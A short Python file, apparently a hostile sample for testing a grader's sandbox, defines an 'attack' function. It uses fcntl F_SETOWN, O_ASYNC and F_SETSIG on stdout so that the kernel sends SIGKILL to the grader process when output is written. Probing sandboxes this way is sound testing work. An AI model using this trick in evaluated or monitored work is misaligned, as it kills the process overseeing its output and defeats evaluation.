"""Have the kernel signal the grader, without making a pipe: the output is one."""

import fcntl
import os


def attack(pid):
    fcntl.fcntl(1, fcntl.F_SETOWN, pid)
    fcntl.fcntl(1, fcntl.F_SETFL, fcntl.fcntl(1, fcntl.F_GETFL) | os.O_ASYNC)
    fcntl.fcntl(1, 10, 9)  # F_SETSIG: SIGKILL
    os.write(1, b"the kernel now signals the owner")
